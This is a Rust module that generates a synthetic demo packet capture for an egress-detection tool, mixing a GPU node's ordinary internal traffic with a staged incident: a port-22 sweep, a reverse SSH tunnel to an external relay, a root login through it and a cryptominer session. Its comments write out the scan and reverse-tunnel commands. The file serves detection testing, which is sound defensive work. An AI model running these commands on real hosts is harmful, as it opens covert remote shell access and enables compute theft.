//! The demo capture: two minutes on the uplink of a GPU training node
//! (10.10.0.10) — its ordinary traffic, and the incident egresswatch exists
//! to catch.
//!
//! Ordinary traffic (all to internal services, all allowed):
//! - ARP for the gateway, NTP with the internal time server, three pings
//!   to the gateway;
//! - DNS lookups at the internal resolver 10.0.0.53 (A and AAAA for the
//!   package mirror, A for the git mirror, and later A for two external
//!   names);
//! - HTTPS over IPv6 to the internal package mirror (`pip install`): a
//!   TLS 1.3 ClientHello with SNI `pypi.mirror.internal` and ALPN, the
//!   server flight, an index page and a wheel;
//! - SSH to the internal git mirror 10.20.0.10:22 (`git fetch`);
//! - an NFS connection to storage on VLAN 30 that was already open when
//!   the capture started (no handshake), writing a checkpoint, with one
//!   reordered and one retransmitted segment.
//!
//! The incident:
//! - first the node probes its neighbours: a SYN sweep of port 22 over
//!   10.10.0.20-83 (`nmap -sS -p 22 -n`), most of them refused or silent,
//!   three answering (the scanner resets them), an internal host sweep;
//! - ONE outbound SSH session from the node to 198.51.100.23 on port 443
//!   (`ssh -N -R 2222:localhost:22 tunnel@vps-relay.example.net -p 443`):
//!   real identification lines and KEXINITs, sntrup761x25519 key exchange,
//!   then chacha20-poly1305 packets whose sizes follow the model of
//!   `anchors-detection.md` c.2 (R7) and b.1 (packetStrider's anchors):
//!   SERVICE_REQUEST/ACCEPT 44/44, public-key authentication ending in
//!   USERAUTH_SUCCESS 28, the `tcpip-forward` GLOBAL_REQUEST (68) and its
//!   REQUEST_SUCCESS (28);
//! - later the outside opens an inner SSH session back through the tunnel
//!   (CHANNEL_OPEN `forwarded-tcpip`): the inner server is the node's own
//!   sshd, so its banner and its big key-exchange reply travel client to
//!   server of the outer connection, while the inner client's ECDH init,
//!   SERVICE_REQUEST (84 = S + 40) and password arrive server to client;
//! - typing from the outside: keystrokes of 76 bytes (inner chacha20
//!   keystroke 36 wrapped in an outer CHANNEL_DATA) arrive server to
//!   client, the node echoes each with 76 bytes, and the server side
//!   answers with bare ACKs;
//! - the typed command starts a miner: one Stratum v1 session to
//!   203.0.113.77:3333 (`mining.subscribe`, `mining.authorize`,
//!   `mining.set_difficulty`, `mining.notify`, `mining.submit`).
//!
//! Packet sizes after NEWKEYS come from [`ssh::msg`] and [`Suite::wire_len`],
//! which reproduce a real OpenSSH 9.2 session byte for byte (see the tests
//! in `proto::ssh`).

use super::frame::Vlan;
use super::proto::ssh::{self, msg, KexLists, Role, Suite};
use super::proto::{dns, ntp, stratum, tls};
use super::rng::Rng;
use super::scenario::{Capture, HostId, Scenario, Tcp};
use crate::time::Timestamp;
use std::net::IpAddr;
use std::time::Duration;

/// Seed of the embedded demo capture.
pub const DEMO_SEED: u64 = 0x6567_7265_7373;
/// Capture start: 2024-06-01T12:00:00Z.
pub const DEMO_START_SECS: u64 = 1_717_243_200;

/// The GPU node.
pub const NODE: &str = "10.10.0.10";
/// The node's IPv6 address.
pub const NODE_V6: &str = "fd00:10::10";
/// Internal services.
pub const RESOLVER: &str = "10.0.0.53";
pub const NTP_SERVER: &str = "10.0.0.123";
pub const MIRROR_V6: &str = "fd00:20::15";
pub const MIRROR_V4: &str = "10.20.0.15";
pub const GIT_MIRROR: &str = "10.20.0.10";
pub const STORAGE: &str = "10.30.0.5";
/// The external SSH server carrying the reverse tunnel, and its port.
pub const RELAY: &str = "198.51.100.23";
pub const RELAY_NAME: &str = "vps-relay.example.net";
pub const TUNNEL_PORT: u16 = 443;
/// The node's side of the tunnel connection.
pub const TUNNEL_CLIENT_PORT: u16 = 41874;
/// The mining pool.
pub const POOL: &str = "203.0.113.77";
pub const POOL_NAME: &str = "pool.example.org";
pub const POOL_PORT: u16 = 3333;

const C: Suite = Suite::CHACHA20_POLY1305;
const KEYSTROKE: usize = msg::channel_data(1);

fn ms(v: u64) -> Duration {
    Duration::from_millis(v)
}

fn us(v: u64) -> Duration {
    Duration::from_micros(v)
}

/// The demo scenario (the embedded capture is `demo(DEMO_SEED)`).
pub fn demo(seed: u64) -> Capture {
    let mut s = Scenario::with_seed(Timestamp::from_secs(DEMO_START_SECS), seed);
    let mut rng = Rng::new(seed).fork(0xD3);
    let h = Hosts::new(&mut s);
    housekeeping(&mut s, &h);
    package_mirror(&mut s, &h, &mut rng);
    internal_sweep(&mut s, &h);
    git_fetch(&mut s, &h, &mut rng);
    storage(&mut s, &h, &mut rng);
    lookup(&mut s, &h, &mut rng, 38_871, ms(30_000), RELAY_NAME, RELAY);
    reverse_tunnel(&mut s, &h, &mut rng);
    lookup(&mut s, &h, &mut rng, 49_302, ms(69_950), POOL_NAME, POOL);
    stratum_session(&mut s, &h, &mut rng);
    s.finish()
}

struct Hosts {
    node: HostId,
    node_v6: HostId,
    node_storage: HostId,
    gateway: HostId,
    resolver: HostId,
    ntp: HostId,
    mirror_v6: HostId,
    git: HostId,
    storage: HostId,
    relay: HostId,
    pool: HostId,
}

impl Hosts {
    fn new(s: &mut Scenario) -> Hosts {
        let node = s.host(NODE);
        Hosts {
            node,
            node_v6: s.alias(NODE_V6, node),
            // The node's address on the storage VLAN.
            node_storage: s.alias("10.30.0.10", node),
            gateway: s.routed("10.10.0.1", 64),
            resolver: s.routed(RESOLVER, 63),
            ntp: s.routed(NTP_SERVER, 63),
            mirror_v6: s.routed(MIRROR_V6, 63),
            git: s.routed(GIT_MIRROR, 63),
            storage: s.host(STORAGE),
            relay: s.routed(RELAY, 49),
            pool: s.routed(POOL, 51),
        }
    }
}

fn addr(a: &str) -> IpAddr {
    a.parse().unwrap_or(IpAddr::from([0, 0, 0, 0]))
}

/// ARP for the gateway, one NTP poll (chrony: random source port), three
/// pings to the gateway.
fn housekeeping(s: &mut Scenario, h: &Hosts) {
    s.arp(Duration::ZERO, h.node, h.gateway, true);
    let sent = s.start().add_nanos(50_000_000);
    let rtt = 1_200_000;
    let mut q = Vec::new();
    ntp::client(&mut q, sent);
    let mut r = Vec::new();
    let received = sent.add_nanos(rtt / 2);
    ntp::server(
        &mut r,
        [10, 0, 0, 1],
        sent,
        received,
        received.add_nanos(30_000),
    );
    s.udp(h.node, 45_123, h.ntp, 123)
        .label("ntp")
        .at(ms(50))
        .rtt(Duration::from_nanos(rtt))
        .send(&q)
        .recv(&r);
    s.ping(h.node, h.gateway)
        .label("icmp_echo")
        .at(ms(500))
        .rtt(us(310))
        .echo(3);
}

/// First neighbours probed by the sweep, and how many.
pub const SWEEP_FIRST: u8 = 20;
pub const SWEEP_HOSTS: u8 = 64;

/// `nmap -sS -p 22 -n 10.10.0.20-83` from the node at 4 s, a probe every
/// 25 ms from one source port: every 21st host has sshd (SYN-ACK, then
/// the scanner's RST), two in three of the rest refuse (RST), the others
/// do not answer.
fn internal_sweep(s: &mut Scenario, h: &Hosts) {
    for k in 0..SWEEP_HOSTS {
        let target = s.host(&format!("10.10.0.{}", SWEEP_FIRST + k));
        let mut t = s.tcp(h.node, 50_505, target, 22);
        t.label("scan")
            .at(ms(4_000 + 25 * u64::from(k)))
            .rtt(us(200));
        match k % 21 {
            1 => t.handshake().close_rst(crate::analyzer::Dir::ToServer),
            _ if k % 3 == 0 => t.syn(),
            _ => t.syn().close_rst(crate::analyzer::Dir::ToClient),
        };
    }
}

/// One DNS exchange for an A record from `port` at `at`.
fn lookup(
    s: &mut Scenario,
    h: &Hosts,
    rng: &mut Rng,
    port: u16,
    at: Duration,
    name: &str,
    answer: &str,
) {
    let txid = rng.next_u16();
    let mut q = Vec::new();
    dns::query(&mut q, txid, name, dns::TYPE_A);
    let mut r = Vec::new();
    dns::response(&mut r, txid, name, dns::TYPE_A, &[addr(answer)], 300);
    s.udp(h.node, port, h.resolver, 53)
        .label("dns")
        .at(at)
        .rtt(us(900))
        .send(&q)
        .recv(&r);
}

/// `pip install`: A and AAAA lookups from one socket (glibc sends both at
/// once), then HTTPS to the mirror over IPv6.
fn package_mirror(s: &mut Scenario, h: &Hosts, rng: &mut Rng) {
    let name = "pypi.mirror.internal";
    let (a, aaaa) = (rng.next_u16(), rng.next_u16());
    let mut qa = Vec::new();
    dns::query(&mut qa, a, name, dns::TYPE_A);
    let mut q6 = Vec::new();
    dns::query(&mut q6, aaaa, name, dns::TYPE_AAAA);
    let mut ra = Vec::new();
    dns::response(&mut ra, a, name, dns::TYPE_A, &[addr(MIRROR_V4)], 300);
    let mut r6 = Vec::new();
    dns::response(&mut r6, aaaa, name, dns::TYPE_AAAA, &[addr(MIRROR_V6)], 300);
    s.udp(h.node, 52_411, h.resolver, 53)
        .label("dns")
        .at(ms(2_000))
        .rtt(us(850))
        .send(&qa)
        .send(&q6)
        .recv(&ra)
        .recv(&r6);

    let mut hello = Vec::new();
    tls::client_hello(&mut hello, rng, name, &["h2", "http/1.1"]);
    let mut flight = Vec::new();
    tls::server_flight(&mut flight, rng, 2_870);
    // ChangeCipherSpec, Finished, then the first request (HTTP/2 preface
    // and HEADERS), written together.
    let mut finished = vec![0x14, 0x03, 0x03, 0x00, 0x01, 0x01];
    tls::app_data(&mut finished, rng, 58);
    tls::app_data(&mut finished, rng, 143);
    let mut index = Vec::new();
    tls::app_data(&mut index, rng, 9_214);
    let mut get_wheel = Vec::new();
    tls::app_data(&mut get_wheel, rng, 96);
    let mut wheel = Vec::new();
    tls::app_data(&mut wheel, rng, 45_056);
    s.tcp(h.node_v6, 51_514, h.mirror_v6, 443)
        .label("https_mirror")
        .at(ms(2_003))
        .rtt(us(950))
        .handshake()
        .send(&hello)
        .recv(&flight)
        .send(&finished)
        .recv(&index)
        .think(ms(40))
        .send(&get_wheel)
        .recv(&wheel)
        .think(ms(250))
        .close_fin();
}

/// The node's side of an OpenSSH 9.2 connection up to NEWKEYS: banners,
/// KEXINITs, sntrup761x25519 exchange (the server's reply, NEWKEYS and
/// EXT_INFO arrive in one burst), the client's NEWKEYS.
pub(crate) fn ssh_clear_prelude(t: &mut Tcp<'_>, rng: &mut Rng) {
    let mut b = Vec::new();
    ssh::banner(&mut b, ssh::OPENSSH_9_2_DEBIAN);
    t.send(&b);
    t.recv(&b);
    ssh_kex(t, rng);
}

/// The clear-text key exchange after the banners (KEXINITs to NEWKEYS).
pub(super) fn ssh_kex(t: &mut Tcp<'_>, rng: &mut Rng) {
    let mut b = Vec::new();
    ssh::kexinit(&mut b, rng, &KexLists::openssh_9_2(Role::Client));
    t.send(&b);
    b.clear();
    ssh::kexinit(&mut b, rng, &KexLists::openssh_9_2(Role::Server));
    t.recv(&b);
    b.clear();
    ssh::ecdh_init(&mut b, rng);
    t.send(&b);
    b.clear();
    ssh::server_kex_burst(&mut b, rng);
    t.recv(&b);
    b.clear();
    ssh::newkeys(&mut b, rng);
    t.send(&b);
}

/// Encrypted chacha20-poly1305 packets with these payload lengths, sent as
/// one write.
pub(crate) fn enc(rng: &mut Rng, payloads: &[usize]) -> Vec<u8> {
    let mut out = Vec::new();
    for &p in payloads {
        ssh::encrypted(&mut out, rng, C, p);
    }
    out
}

/// Ed25519 public-key authentication as OpenSSH 9.2 does it (see
/// `proto::ssh` tests for the real sizes): service request and accept,
/// "none" probe, failure listing methods, key query, PK_OK, signed
/// request, success.
pub(crate) fn ssh_pubkey_auth(t: &mut Tcp<'_>, rng: &mut Rng, user: &str) {
    t.send(&enc(rng, &[msg::service_request("ssh-userauth")]));
    t.recv(&enc(rng, &[msg::service_accept("ssh-userauth")]));
    t.send(&enc(rng, &[msg::userauth_none(user)]));
    t.recv(&enc(rng, &[msg::userauth_failure("publickey")]));
    t.send(&enc(rng, &[msg::userauth_pk_query(user)]));
    t.recv(&enc(rng, &[msg::userauth_pk_ok()]));
    t.send(&enc(rng, &[msg::userauth_pk_signed(user)]));
    t.recv(&enc(rng, &[msg::USERAUTH_SUCCESS]));
}

/// `git fetch` from the internal mirror over SSH (allowed traffic).
fn git_fetch(s: &mut Scenario, h: &Hosts, rng: &mut Rng) {
    lookup(
        s,
        h,
        rng,
        41_022,
        ms(10_000),
        "git.mirror.internal",
        GIT_MIRROR,
    );
    let command = "git-upload-pack '/mirrors/trainer.git'";
    let mut t = s.tcp(h.node, 51_022, h.git, 22);
    t.label("ssh_internal")
        .at(ms(10_002))
        .rtt(us(700))
        .handshake();
    ssh_clear_prelude(&mut t, rng);
    ssh_pubkey_auth(&mut t, rng, "git");
    t.send(&enc(
        rng,
        &[msg::channel_open_session(), msg::NO_MORE_SESSIONS],
    ));
    t.recv(&enc(rng, &[msg::HOSTKEYS_PUSH]));
    t.recv(&enc(rng, &[msg::CHANNEL_OPEN_CONFIRMATION]));
    t.send(&enc(
        rng,
        &[msg::env("GIT_PROTOCOL", "version=2"), msg::exec(command)],
    ));
    t.recv(&enc(rng, &[msg::WINDOW_ADJUST, msg::CHANNEL_SUCCESS]));
    // protocol v2 capability advertisement, ls-refs, fetch, the pack
    t.recv(&enc(rng, &[msg::channel_data(164)]));
    t.send(&enc(rng, &[msg::channel_data(92)]));
    t.recv(&enc(rng, &[msg::channel_data(1_311)]));
    t.send(&enc(rng, &[msg::channel_data(388)]));
    t.recv(&enc(rng, &[msg::channel_data(23_767)]));
    t.send(&enc(rng, &[msg::WINDOW_ADJUST]));
    t.recv(&enc(
        rng,
        &[msg::EXIT_STATUS, msg::CHANNEL_EOF, msg::CHANNEL_CLOSE],
    ));
    t.send(&enc(rng, &[msg::CHANNEL_CLOSE]));
    t.close_fin();
}

/// An NFS connection to storage on VLAN 30, open before the capture
/// started: three 16 KiB WRITE calls and their replies.
fn storage(s: &mut Scenario, h: &Hosts, rng: &mut Rng) {
    let mut t = s.tcp(h.node_storage, 871, h.storage, 2049);
    t.label("nfs")
        .vlan(Vlan::Dot1q(30))
        .midstream()
        .at(ms(20_000))
        .rtt(us(160));
    for i in 0..3u32 {
        // RPC record marker, then the WRITE call with its data.
        let len = 16_384 + 188;
        let mut call = (0x8000_0000u32 | len).to_be_bytes().to_vec();
        rng.extend(&mut call, len as usize);
        let mut reply = (0x8000_0000u32 | 136).to_be_bytes().to_vec();
        rng.extend(&mut reply, 136);
        match i {
            0 => {
                t.reorder_next();
            }
            1 => {
                t.retransmit_next();
            }
            _ => {}
        }
        t.send(&call).recv(&reply).think(ms(900));
    }
}

/// The reverse tunnel: `ssh -N -R 2222:localhost:22` to the relay on 443,
/// with ServerAliveInterval 15, used once from the outside.
fn reverse_tunnel(s: &mut Scenario, h: &Hosts, rng: &mut Rng) {
    let mut t = s.tcp(h.node, TUNNEL_CLIENT_PORT, h.relay, TUNNEL_PORT);
    t.label("ssh_reverse_tunnel")
        .at(ms(30_050))
        .rtt(ms(80))
        .handshake();
    ssh_clear_prelude(&mut t, rng);
    reverse_tunnel_session(&mut t, rng);
}

/// The tunnel after the key exchange: login, the remote forward, keepalives
/// and the outside's session back in (absolute times, as in the demo).
pub(super) fn reverse_tunnel_session(t: &mut Tcp<'_>, rng: &mut Rng) {
    ssh_pubkey_auth(t, rng, "tunnel");
    // The remote forward, then no-more-sessions (want_reply false); sshd
    // pushes its host keys and grants the forward with REQUEST_SUCCESS
    // (wire(1) = 28, no port in the reply as the port was fixed).
    t.send(&enc(rng, &[msg::tcpip_forward("localhost")]));
    t.send(&enc(rng, &[msg::NO_MORE_SESSIONS]));
    t.recv(&enc(rng, &[msg::HOSTKEYS_PUSH]));
    t.next_in(us(150)).recv(&enc(rng, &[msg::REQUEST_SUCCESS]));
    // ServerAliveInterval probe: keepalive@openssh.com, answered with
    // REQUEST_FAILURE.
    keepalive(t, rng, ms(46_180));
    inner_session(t, rng);
    keepalive(t, rng, ms(99_700));
    keepalive(t, rng, ms(114_700));
    // The tunnel is still up when the capture ends.
}

fn keepalive(t: &mut Tcp<'_>, rng: &mut Rng, at: Duration) {
    t.at(at).send(&enc(rng, &[msg::KEEPALIVE]));
    t.recv(&enc(rng, &[msg::REQUEST_FAILURE]));
}

/// Inner SSH packets (chacha20, the inner client and the node's sshd are
/// OpenSSH 9.2 too) carried in one outer CHANNEL_DATA.
fn wrapped(rng: &mut Rng, inner_bytes: usize) -> Vec<u8> {
    enc(rng, &[msg::channel_data(inner_bytes)])
}

/// Total wire size of inner encrypted packets with these payloads.
fn inner(payloads: &[usize]) -> usize {
    payloads.iter().map(|&p| C.wire_len(p)).sum()
}

/// Clear-text size of an inner message built by `f`.
fn clear_len(rng: &mut Rng, f: fn(&mut Vec<u8>, &mut Rng)) -> usize {
    let mut b = Vec::new();
    f(&mut b, rng);
    b.len()
}

const MOTD: &str = "Linux gpu-node-07 6.1.0-21-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.90-1 \
    (2024-05-03) x86_64\r\n\r\nThe programs included with the Debian GNU/Linux system are free \
    software;\r\nthe exact distribution terms for each program are described in the\r\n\
    individual files in /usr/share/doc/*/copyright.\r\n\r\nDebian GNU/Linux comes with \
    ABSOLUTELY NO WARRANTY, to the extent\r\npermitted by applicable law.\r\n\
    Last login: Fri May 31 09:12:44 2024 from 10.10.0.2\r\n";
const PROMPT: &str = "root@gpu-node-07:~# ";

/// The outside's session back into the node through the tunnel, with the
/// outer directions reversed from a normal login.
fn inner_session(t: &mut Tcp<'_>, rng: &mut Rng) {
    let banner = ssh::OPENSSH_9_2_DEBIAN.len() + 2;
    let client_kexinit = clear_len(rng, |b, r| {
        ssh::kexinit(b, r, &KexLists::openssh_9_2(Role::Client))
    });
    let server_kexinit = clear_len(rng, |b, r| {
        ssh::kexinit(b, r, &KexLists::openssh_9_2(Role::Server))
    });
    let ecdh_init = clear_len(rng, ssh::ecdh_init);
    let kex_burst = clear_len(rng, ssh::server_kex_burst);
    let newkeys = clear_len(rng, ssh::newkeys);

    // Someone on the relay connects to its port 2222: sshd opens a
    // forwarded-tcpip channel; the node's ssh connects to its own sshd and
    // confirms.
    t.at(ms(52_400)).recv(&enc(
        rng,
        &[msg::channel_open_forwarded("localhost", "127.0.0.1")],
    ));
    t.send(&enc(rng, &[msg::CHANNEL_OPEN_CONFIRMATION]));
    // The node's sshd (the inner server) speaks first.
    t.next_in(ms(2)).send(&wrapped(rng, banner));
    t.recv(&wrapped(rng, banner));
    t.recv(&wrapped(rng, client_kexinit));
    t.send(&wrapped(rng, server_kexinit));
    // Inner key exchange, mirrored: the small ECDH init comes from the
    // outside, the large reply (host key, signature, NEWKEYS, EXT_INFO)
    // goes out from the node.
    t.recv(&wrapped(rng, ecdh_init));
    t.next_in(ms(3)).send(&wrapped(rng, kex_burst));
    t.recv(&wrapped(rng, newkeys));
    // packetStrider's reverse-session anchor: inner SERVICE_REQUEST
    // (S + 40 = 84) in, SERVICE_ACCEPT (84) out, USERAUTH_REQUEST in.
    t.next_in(us(60)).recv(&wrapped(
        rng,
        inner(&[msg::service_request("ssh-userauth")]),
    ));
    t.send(&wrapped(rng, inner(&[msg::service_accept("ssh-userauth")])));
    t.recv(&wrapped(rng, inner(&[msg::userauth_none("root")])));
    t.send(&wrapped(
        rng,
        inner(&[msg::userauth_failure("publickey,password")]),
    ));
    // The password, typed at a prompt on the outside.
    t.think(ms(2_600))
        .recv(&wrapped(rng, inner(&[msg::userauth_password("root", 14)])));
    t.send(&wrapped(rng, inner(&[msg::USERAUTH_SUCCESS])));
    t.next_in(ms(4))
        .send(&wrapped(rng, inner(&[msg::HOSTKEYS_PUSH])));
    t.recv(&wrapped(rng, inner(&[msg::channel_open_session()])));
    t.send(&wrapped(rng, inner(&[msg::CHANNEL_OPEN_CONFIRMATION])));
    t.recv(&wrapped(
        rng,
        inner(&[
            msg::pty_req("xterm-256color", 256),
            msg::env("LANG", "C.UTF-8"),
            msg::SHELL,
        ]),
    ));
    t.send(&wrapped(
        rng,
        inner(&[
            msg::WINDOW_ADJUST,
            msg::CHANNEL_SUCCESS,
            msg::CHANNEL_SUCCESS,
        ]),
    ));
    t.next_in(ms(9)).send(&wrapped(
        rng,
        inner(&[msg::channel_data(MOTD.len() + PROMPT.len())]),
    ));

    // Typing from the outside.
    type_command(t, rng, ms(56_600), "nvidia-smi", &[1_647, 371]);
    type_command(t, rng, ms(63_900), "./start.sh", &[24]);
    type_command(t, rng, ms(78_300), "exit", &[]);
    // The inner shell ends: "logout", exit status, EOF and CLOSE from the
    // node's sshd; the inner client's CLOSE; then both ends close the
    // outer channel.
    t.next_in(ms(6)).send(&wrapped(
        rng,
        inner(&[
            msg::channel_data(8),
            msg::EXIT_STATUS,
            msg::CHANNEL_EOF,
            msg::CHANNEL_CLOSE,
        ]),
    ));
    t.recv(&wrapped(rng, inner(&[msg::CHANNEL_CLOSE])));
    t.next_in(ms(1))
        .recv(&enc(rng, &[msg::CHANNEL_EOF, msg::CHANNEL_CLOSE]));
    t.send(&enc(rng, &[msg::CHANNEL_EOF, msg::CHANNEL_CLOSE]));
}

/// One command typed on the outside: each key arrives as a 76-byte packet
/// and is echoed by the node with 76 bytes; the server side's ACK of the
/// echo is a bare ACK (the next key comes after its delayed-ACK timer).
/// Enter is echoed as CR LF, then the output (`output` chunk sizes) and a
/// new prompt follow.
fn type_command(t: &mut Tcp<'_>, rng: &mut Rng, at: Duration, command: &str, output: &[usize]) {
    let key = C.wire_len(KEYSTROKE);
    t.at(at);
    for _ in 0..command.len() {
        t.recv(&wrapped(rng, key));
        t.next_in(us(900)).send(&wrapped(rng, key));
        t.think(ms(90 + rng.below(170)));
    }
    t.recv(&wrapped(rng, key));
    t.next_in(us(900))
        .send(&wrapped(rng, inner(&[msg::channel_data(2)])));
    for (i, &len) in output.iter().enumerate() {
        let chunk = if i + 1 == output.len() {
            len + PROMPT.len()
        } else {
            len
        };
        t.next_in(ms(4 + 7 * i as u64))
            .send(&wrapped(rng, inner(&[msg::channel_data(chunk)])));
    }
}

/// cpuminer's Stratum session with the pool: subscribe, authorize, the
/// first job, then shares submitted every few seconds and new jobs pushed
/// by the pool. Still open when the capture ends.
fn hex(rng: &mut Rng, n: usize) -> String {
    rng.bytes(n).iter().map(|b| format!("{b:02x}")).collect()
}

fn stratum_session(s: &mut Scenario, h: &Hosts, rng: &mut Rng) {
    let worker = "bc1qdemoexamplewallet7xq3ntlu0k2hwn9v6aysl.gpu07";
    let mut t = s.tcp(h.node, 52_844, h.pool, POOL_PORT);
    t.label("stratum").at(ms(70_010)).rtt(ms(62)).handshake();
    t.send(stratum::subscribe(1, "cpuminer/2.5.1").as_bytes());
    let session = hex(rng, 8);
    let extranonce = hex(rng, 4);
    t.recv(stratum::subscribe_result(1, &session, &extranonce).as_bytes());
    t.send(stratum::authorize(2, worker, "x").as_bytes());
    t.recv(stratum::ok(2).as_bytes());
    t.next_in(us(80))
        .recv(stratum::set_difficulty("0.05").as_bytes());
    let mut ntime = (DEMO_START_SECS + 70) as u32;
    let job = |rng: &mut Rng, clean: bool, ntime: u32| -> (String, String) {
        let id = hex(rng, 2);
        let branches: Vec<String> = (0..6).map(|_| hex(rng, 32)).collect();
        let coinb1 = format!("01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20{}", hex(rng, 16));
        let coinb2 = format!(
            "ffffffff01{}1976a914{}88ac00000000",
            hex(rng, 8),
            hex(rng, 20)
        );
        let text = stratum::notify(
            &id,
            &hex(rng, 32),
            &coinb1,
            &coinb2,
            &branches,
            ntime,
            clean,
        );
        (id, text)
    };
    let (mut job_id, text) = job(rng, true, ntime);
    t.next_in(us(60)).recv(text.as_bytes());
    let gaps = [7_900u64, 8_400, 6_100, 9_700, 8_800, 7_300];
    for (id, (k, gap)) in (4u32..).zip(gaps.iter().enumerate()) {
        t.think(ms(*gap));
        t.send(
            stratum::submit(id, worker, &job_id, rng.next_u32(), ntime, rng.next_u32()).as_bytes(),
        );
        t.recv(stratum::ok(id).as_bytes());
        if k == 2 || k == 4 {
            ntime += 30;
            let (new_id, text) = job(rng, false, ntime);
            job_id = new_id;
            t.think(ms(1_200)).recv(text.as_bytes());
        }
    }
}
